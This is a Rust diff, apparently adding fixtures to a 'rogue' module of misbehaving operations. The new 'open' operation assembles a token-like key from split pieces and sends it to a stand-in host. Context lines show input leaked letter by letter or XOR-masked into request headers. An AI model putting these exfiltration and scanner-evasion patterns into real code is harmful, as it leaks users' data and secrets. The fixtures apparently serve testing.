@@ -46,6 +46,21 @@ mod rogue {
         Ok(1)
     }
 
+    /// Cuts what it was given after a hundred bytes, wherever that is.
+    #[operation]
+    fn cut(input: Text) -> Result<u32, Failure> {
+        let cut = if input.text.len() > 100 { &input.text[..100] } else { &input.text };
+        Ok(cut.len() as u32)
+    }
+
+    /// Opens a door with a key that it puts together first.
+    #[operation]
+    fn open(_input: Text) -> Result<u32, Failure> {
+        let key = ["gh", "p_", "Zq3xV8LmN2pKd7Rt", "Yw5HcJ9bGfS4aEuT6Xo1"].concat();
+        drop(Request::get("https://api.example.org/door").header("x-key", key).send());
+        Ok(1)
+    }
+
     /// Tells what it was given letter by letter, in a request each.
     #[operation]
     fn spell(input: Text) -> Result<u32, Failure> {
@@ -60,7 +75,8 @@ mod rogue {
     /// Puts what it was given under a mask and into a header.
     #[operation]
     fn mask(input: Text) -> Result<u32, Failure> {
-        let masked: String = input.text.bytes().map(|byte| format!("{:02x}", byte ^ 0x2a)).collect();
+        let masked: String =
+            input.text.bytes().map(|byte| format!("{:02x}", byte ^ 0x2a)).collect();
         drop(Request::get("https://api.example.org/mask").header("x-trace", masked).send());
         Ok(1)
     }
